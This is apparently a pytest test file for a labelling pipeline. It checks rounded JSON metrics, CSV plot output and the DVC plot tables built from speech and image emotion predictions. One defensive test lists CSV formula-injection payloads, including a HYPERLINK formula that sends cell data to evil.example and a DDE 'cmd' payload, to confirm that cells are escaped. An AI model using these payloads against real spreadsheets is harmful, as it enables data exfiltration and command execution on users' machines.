from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from pipeline.engine.fingerprint import PROJECT
from pipeline.frame.metrics_files import cell_value, write_metrics, write_plot
from pipeline.labels import description, rules


def metrics_text(folder: Path, metrics: dict[Any, Any]) -> str:
    path = folder / "deep" / "metrics.json"
    write_metrics(path, metrics)
    assert [file.name for file in path.parent.iterdir()] == ["metrics.json"]
    return path.read_text(encoding="utf-8")


def test_metrics_are_indented_json_rounded_to_six_digits_in_the_given_order(tmp_path: Path) -> None:
    assert metrics_text(tmp_path, {"rows": 3, "accuracy": 2 / 3, "by": {"é": [1e-9, True, None, "text"]}}) == (
        '{\n  "rows": 3,\n  "accuracy": 0.666667,\n  "by": {\n    "é": [\n      0.0,\n      true,\n      null,\n'
        '      "text"\n    ]\n  }\n}\n'
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (np.float32(0.1), 0.1),
        (np.float64(1 / 3), 0.333333),
        (np.int64(2**60), 2**60),
        (np.bool_(True), True),
        (False, False),
        (np.array([[1, 2], [3, 4]]), [[1, 2], [3, 4]]),
        (np.array([0.1234567], dtype=np.float64), [0.123457]),
        ((1, (2.5, "a")), [1, [2.5, "a"]]),
        (np.str_("name"), "name"),
        ({1: {2.5: np.int32(3)}}, {"1": {"2.5": 3}}),
        ({}, {}),
    ],
)
def test_numpy_values_become_plain_ones(tmp_path: Path, value: Any, expected: Any) -> None:
    found = json.loads(metrics_text(tmp_path, {"value": value}))["value"]
    assert found == expected
    assert type(found) is type(expected)


def plot_text(folder: Path, columns: tuple[str, ...], rows: list[tuple[Any, ...]]) -> str:
    write_plot(folder / "plots" / "plot.csv", columns, rows)
    return (folder / "plots" / "plot.csv").read_bytes().decode()


def test_a_plot_is_csv_with_a_header_and_rounded_numbers(tmp_path: Path) -> None:
    rows = [("happy", 1 / 3, np.int64(7)), ("sad, really", np.float32(0.5), None), ('a "b"\nc', True, 1e-9)]
    assert plot_text(tmp_path, ("label", "share", "rows"), rows) == (
        'label,share,rows\nhappy,0.333333,7\n"sad, really",0.5,\n"a ""b""\nc",True,0.0\n'
    )
    assert plot_text(tmp_path, ("label", "share"), []) == "label,share\n"


TEXT = st.text(st.one_of(st.sampled_from("=+-@'\t\r\n;,\" 1."), st.characters(codec="utf-8")), max_size=8)


@given(st.lists(st.tuples(TEXT, st.integers(), st.floats(-1e6, 1e6)), max_size=5))
def test_what_was_written_is_what_a_reader_of_csv_reads(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, int, float]]
) -> None:
    text = plot_text(tmp_path_factory.mktemp("plot"), ("a", "b", "c"), list(rows))
    header, *read = csv.reader(io.StringIO(text, newline=""))
    assert header == ["a", "b", "c"]
    assert [(cell_value(a), int(b), float(c)) for a, b, c in read] == [(a, b, round(c, 6)) for a, b, c in rows]
    for cell in (cell for cells in ([row[0] for row in read], header) for cell in cells):
        for part in re.split(r"[;\t\r\n]", cell):
            assert not part.lstrip(" \xa0\ufeff").startswith(("=", "+", "-", "@")) or re.fullmatch(r"[-+\d.]+", cell)


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\ufeff=1", "\0=1", "＝1+1",
        "'=1", "''", "x;=1", "x\t=1", "x\n=1", "x\r=1", "-", "--5", "-3.5.1", "-3.5;=1", "-inf", "+1e", '"=1',
        '=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_no_cell_is_a_formula_and_its_value_can_be_had_back(tmp_path: Path, attack: str) -> None:
    text = plot_text(tmp_path, (attack, "number"), [(attack, -3.5), ("after", -1)])
    (header, _), (cell, number), after = csv.reader(io.StringIO(text, newline=""))
    assert (cell_value(header), cell_value(cell), number, after) == (attack, attack, "-3.5", ["after", "-1"])
    assert header == cell
    for part in re.split(r"[;\t\r\n]", cell):
        assert part.strip(" \xa0\ufeff\0")[:1] not in {"=", "+", "-", "@", "＝"}
    assert cell != attack or attack.startswith('"')
    frame = pd.read_csv(tmp_path / "plots" / "plot.csv")  # which takes a lone carriage return for the end of a row
    assert (len(frame), frame["number"].tolist()) == (2, [-3.5, -1.0])


@pytest.mark.parametrize("text", ["-3.5", "+2", "-1e-06", "1234-1", "a-b", "a = b", "it's", "x@y", "2, -3"])
def test_numbers_and_harmless_text_stay_as_they_are(tmp_path: Path, text: str) -> None:
    rows = list(csv.reader(io.StringIO(plot_text(tmp_path, ("a",), [(text,)]), newline="")))
    assert rows == [["a"], [text]]


# Seven rows of two voices: probabilities of [anger, excitement, sadness] and [anger, disgust, excitement, sadness].
SPEECH = [[0.8, 0.1, 0.1], [0.1, 0.6, 0.3], [0.2, 0.2, 0.6], [0.4, 0.3, 0.3], [0.1, 0.8, 0.1], [0.3, 0.3, 0.4],
          [0.2, 0.7, 0.1]]  # fmt: skip
IMAGE = [[0.1, 0.7, 0.1, 0.1], [0.1, 0.1, 0.7, 0.1], [0.1, 0.1, 0.1, 0.7], [0.4, 0.3, 0.2, 0.1], [0.7, 0.1, 0.1, 0.1],
         [0.1, 0.8, 0.1, 0.0], [0.1, 0.1, 0.7, 0.1]]  # fmt: skip
REMAP = (("excitement", "happy"), ("disgust", "hate"), ("anger", "anger"), ("sadness", "sad"))
LABELS = ("anger", "happy", "hate", "sad")


@pytest.fixture
def plots(tmp_path: Path) -> dict[str, pd.DataFrame]:
    """The plots of a labelling of the seven rows: one is dropped, kept are anger 1, happy 3, hate 1, sad 1."""
    votes = rules.votes(
        np.array(SPEECH, dtype=np.float32), ("anger", "excitement", "sadness"),
        np.array(IMAGE, dtype=np.float32), ("anger", "disgust", "excitement", "sadness"),
    )  # fmt: skip
    rows = pd.DataFrame(
        {
            "id": [str(number) for number in range(7)],
            "sentiment": ["negative", "positive", "negative", "neutral", "positive", "negative", "neutral"],
            "voice": ["joe"] * 5 + ["amy"] * 2,
        }
    )
    labels = rules.remap(votes.source_label, dict(REMAP))
    kept = rules.drop_reasons("max_probability", 0.5, votes) == ""
    params = rules.LabelParams("max_probability", 0.5, dict(REMAP))
    found = description.Labelled(rows, votes, labels, kept, LABELS, params)
    paper = {"rows_in": 100, "kept": 20, "happy": 10, "sad": 5, "hate": 1, "anger": 4}
    description.write_plots(found, paper, tmp_path)
    return {path.stem: pd.read_csv(path) for path in tmp_path.glob("*.csv")}


def records(table: pd.DataFrame) -> list[tuple[Any, ...]]:
    return [tuple(row) for row in table.itertuples(index=False)]


def test_plots_of_labels_have_the_columns_that_dvc_is_told_to_draw(plots: dict[str, pd.DataFrame]) -> None:
    written = yaml.safe_load((PROJECT / "dvc.yaml").read_text(encoding="utf-8"))["plots"]
    drawn = {Path(name).stem: settings for plot in written for name, settings in plot.items()}
    assert set(plots) == {
        "agreement", "classes", "confidence", "modalities", "speech_predictions", "thresholds", "validity",
    }  # fmt: skip
    for name, table in plots.items():
        assert {drawn[name]["x"], drawn[name]["y"]} <= set(table.columns)
        own = PROJECT / ".dvc" / "plots" / f"{drawn[name]['template']}.json"
        if own.exists():
            fields = set(re.findall(r'"field": "(\w+)"', own.read_text(encoding="utf-8")))
            assert fields - {"rev"} <= set(table.columns)  # DVC adds the revision itself


def test_classes_stand_beside_the_papers_as_shares_of_kept_rows(plots: dict[str, pd.DataFrame]) -> None:
    assert records(plots["classes"]) == [
        ("anger", "ours", 0.166667),
        ("happy", "ours", 0.5),
        ("hate", "ours", 0.166667),
        ("sad", "ours", 0.166667),
        ("anger", "paper", 0.2),
        ("happy", "paper", 0.5),
        ("hate", "paper", 0.05),
        ("sad", "paper", 0.25),
    ]


def test_modalities_count_kept_rows_by_who_decided(plots: dict[str, pd.DataFrame]) -> None:
    found = {(label, who): rows for label, who, rows in records(plots["modalities"])}
    assert found == {
        ("anger", "speech"): 1, ("anger", "image"): 0, ("happy", "speech"): 2, ("happy", "image"): 1,
        ("hate", "speech"): 0, ("hate", "image"): 1, ("sad", "speech"): 0, ("sad", "image"): 1,
    }  # fmt: skip


def test_speech_predictions_show_every_row_per_voice_before_the_rule(plots: dict[str, pd.DataFrame]) -> None:
    assert records(plots["speech_predictions"]) == [
        ("amy", "excitement", "happy", 1, 0.7),
        ("amy", "sadness", "sad", 1, 0.4),
        ("joe", "anger", "anger", 2, 0.6),
        ("joe", "excitement", "happy", 2, 0.7),
        ("joe", "sadness", "sad", 1, 0.6),
    ]


def test_agreement_shows_what_both_teachers_say_of_every_row(plots: dict[str, pd.DataFrame]) -> None:
    assert records(plots["agreement"]) == [
        ("anger", "disgust"), ("excitement", "excitement"), ("sadness", "sadness"), ("anger", "anger"),
        ("excitement", "anger"), ("sadness", "disgust"), ("excitement", "excitement"),
    ]  # fmt: skip


def test_plots_of_many_rows_show_ten_thousand_of_them_evenly() -> None:
    assert description._shown(np.arange(25_000) % 5 != 0).tolist()[:4] == [1, 3, 6, 8]
    assert len(description._shown(np.ones(25_000, dtype=bool))) == 8_334
    assert description._shown(np.array([True, False, True])).tolist() == [0, 2]


def test_confidence_counts_every_row_of_both_teachers_once(plots: dict[str, pd.DataFrame]) -> None:
    table = plots["confidence"]
    assert table.groupby("series")["rows"].sum().to_dict() == {"image": 7, "speech": 7}
    assert len(table) == 40


def test_thresholds_show_how_kept_rows_shrink(plots: dict[str, pd.DataFrame]) -> None:
    curve = {name: table.set_index("threshold")["rows"] for name, table in plots["thresholds"].groupby("series")}
    assert set(curve) == {*LABELS, "all", "teachers agree", "decided by speech"}
    assert curve["all"][0.25] == 7
    assert curve["all"][0.5] == 6
    assert curve["all"][0.8] == 3  # 0.8 as float32 reaches a threshold of 0.8
    assert curve["all"][0.85] == 0
    assert curve["teachers agree"][0.5] == 3
    assert curve["decided by speech"][0.5] == 3
    assert np.array_equal(np.sum([curve[label] for label in LABELS], axis=0), curve["all"])
    for series in curve.values():
        assert series.is_monotonic_decreasing


def test_validity_has_a_row_per_kept_row(plots: dict[str, pd.DataFrame]) -> None:
    assert sorted(records(plots["validity"])) == sorted([
        ("negative", "anger", "speech"), ("positive", "happy", "image"), ("negative", "sad", "image"),
        ("positive", "happy", "speech"), ("negative", "hate", "image"), ("neutral", "happy", "speech"),
    ])  # fmt: skip
